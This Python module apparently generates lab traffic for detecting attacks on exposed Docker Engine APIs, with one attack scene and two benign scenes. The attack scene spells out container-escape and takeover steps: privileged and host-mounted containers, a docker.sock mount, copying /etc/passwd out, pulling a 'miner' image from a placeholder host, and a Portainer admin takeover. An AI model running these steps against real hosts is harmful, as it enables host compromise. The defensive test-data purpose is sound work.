"""Docker Engine API (real dockerd and docker client), registry and Portainer (stand-ins)."""

from .common import begin, docker_engine
from .scenes import scene
from .web import curl, json, reply, site

DOCKER = dict(dockerd="docker.io", docker="docker.io", __bin__busybox="busybox-static")
REGISTRY = dict(Docker_Distribution_Api_Version="registry/2.0")


def registry(host):
    site(host, 5000, [
        (r"^GET /v2/$", json("{}", **REGISTRY)),
        (r"^GET /v2/_catalog", json('{"repositories":["shop/frontend","shop/payments"]}', **REGISTRY)),
        (r"^GET /v2/.*/tags/list", json('{"name":"shop/payments","tags":["1.4","1.5"]}', **REGISTRY)),
        (r"^(GET|HEAD) /v2/.*/manifests/", reply(200, '{"schemaVersion":2,"mediaType":"application/vnd.docker.distribution.manifest.v2+json","layers":[]}',
                                                 "application/vnd.docker.distribution.manifest.v2+json", "nginx", **REGISTRY)),
        (r"^DELETE /v2/", reply(202, "", **REGISTRY)),
    ])


@scene("attacks-container-apis", **DOCKER)
def attacks(lab):
    """exposed dockerd: enumeration, privileged containers, host mounts, exec, copies; registry catalogue; Portainer"""
    intruder, node, hub = lab.host("intruder", 66), lab.host("node", 10), lab.host("hub", 11)
    docker_engine(lab, node)
    registry(hub)
    site(hub, 9000, [(r"^POST /api/users/admin/init", json('{"Id":1,"Username":"admin","Role":1}'))])
    begin(lab)
    engine = f"tcp://{node.ip}:2375"

    def docker(*argv):
        return intruder.run("docker", "-H", engine, *argv, timeout=40)

    for path in ("/version", "/info", "/containers/json?all=1", "/images/json"):
        curl(intruder, f"http://{node.ip}:2375{path}")
    docker("create", "--privileged", "--name", "a1", "alpine:3.18", "sh")
    docker("create", "-v", "/:/mnt", "--name", "a2", "alpine:3.18", "chroot", "/mnt", "sh", "-c", "id")
    docker("create", "-v", "/var/run/docker.sock:/var/run/docker.sock", "--name", "a3", "alpine:3.18", "sh")
    docker("create", "--pid=host", "--ipc=host", "--name", "a4", "alpine:3.18", "sh")
    docker("create", "--cap-add=SYS_ADMIN", "--cap-add=SYS_PTRACE", "--name", "a5", "alpine:3.18", "sh")
    docker("run", "-d", "--network=none", "--name", "app", "alpine:3.18", "sleep", "300")
    docker("exec", "-i", "app", "id")
    docker("cp", lab.write("dropper.sh", "#!/bin/sh\necho inert\n"), "app:/tmp/dropper.sh")
    docker("cp", "app:/etc/passwd", lab.path("passwd"))
    docker("rm", "-f", "a1", "a2", "a3", "a4", "a5", "app")
    curl(intruder, f"http://{node.ip}:2375/v1.41/images/create?fromImage=198.51.100.7:5000/miner&tag=latest", method="POST", more=["-m", "2"])
    curl(intruder, f"http://{node.ip}:2375/v1.41/build?remote=http%3A%2F%2F127.0.0.1%3A9%2Fctx.tar&t=x", method="POST", more=["-m", "2"])
    curl(intruder, f"http://{node.ip}:2375/v1.41/swarm/join", '{"ListenAddr":"0.0.0.0:2377","RemoteAddrs":["127.0.0.1:9"],"JoinToken":"SWMTKN-1-inert"}', headers=["Content-Type: application/json"], more=["-m", "2"])
    curl(intruder, f"http://{hub.ip}:5000/v2/_catalog")
    curl(intruder, f"http://{hub.ip}:5000/v2/shop/payments/manifests/sha256:6c3c624b58dbbcd3c0dd82b4c53f04194d1247c6eebdaab7c610cf7d66709b3b", method="DELETE")
    curl(intruder, f"http://{hub.ip}:9000/api/users/admin/init", '{"Username":"admin","Password":"inert-inert-inert"}', headers=["Content-Type: application/json"])


@scene("benign-container-apis", **DOCKER)
def benign(lab):
    """the docker client as a dashboard uses it: version, info, ps, logs, stats; a registry pulled from"""
    watcher, node, hub = lab.host("watcher", 30), lab.host("node", 10), lab.host("hub", 11)
    docker_engine(lab, node)
    registry(hub)
    site(hub, 9000, [(r"^POST /api/auth", json('{"jwt":"inert"}')), (r"^GET /api/users/admin/check", reply(204, ""))])
    node.run("docker", "-H", "tcp://127.0.0.1:2375", "run", "-d", "--network=none", "--name", "app", "alpine:3.18", "sh", "-c", "echo started; sleep 300", timeout=40)
    begin(lab)
    engine = f"tcp://{node.ip}:2375"
    for argv in (["version"], ["info"], ["ps", "-a"], ["images"], ["inspect", "app"], ["logs", "app"], ["top", "app"], ["stats", "--no-stream", "app"],
                 ["cp", "app:/tmp", lab.path("app-tmp")]):
        watcher.run("docker", "-H", engine, *argv)
    curl(watcher, f"http://{node.ip}:2375/_ping")
    curl(watcher, f"http://{node.ip}:2375/v1.41/containers/app/exec", method="GET")
    for path in ("/v2/", "/v2/shop/payments/tags/list", "/v2/shop/payments/manifests/1.5"):
        curl(watcher, f"http://{hub.ip}:5000{path}", agent="docker/20.10.24 go/go1.19.8")
    curl(watcher, f"http://{hub.ip}:5000/v2/shop/payments/manifests/1.5", method="HEAD", agent="docker/20.10.24 go/go1.19.8")
    curl(watcher, f"http://{hub.ip}:9000/api/users/admin/check")
    curl(watcher, f"http://{hub.ip}:9000/api/auth", '{"Username":"admin","Password":"inert-inert-inert"}', headers=["Content-Type: application/json"])


@scene("benign-container-deploy", **DOCKER)
def deploy(lab):
    """an ordinary deployment over the same API: an unprivileged container with a data folder, started and stopped"""
    watcher, node = lab.host("watcher", 30), lab.host("node", 10)
    docker_engine(lab, node)
    begin(lab)
    docker = ["docker", "-H", f"tcp://{node.ip}:2375"]
    watcher.run(*docker, "create", "--name", "web", "-v", f"{lab.path('docker', 'bundle', 'tmp')}:/data", "--cap-add=NET_BIND_SERVICE", "--network=none",
                "-e", "MODE=chroot-free", "alpine:3.18", "sleep", "30", timeout=40)
    watcher.run(*docker, "start", "web", timeout=40)
    watcher.run(*docker, "stop", "-t", "0", "web", timeout=40)
    watcher.run(*docker, "rm", "web", timeout=40)
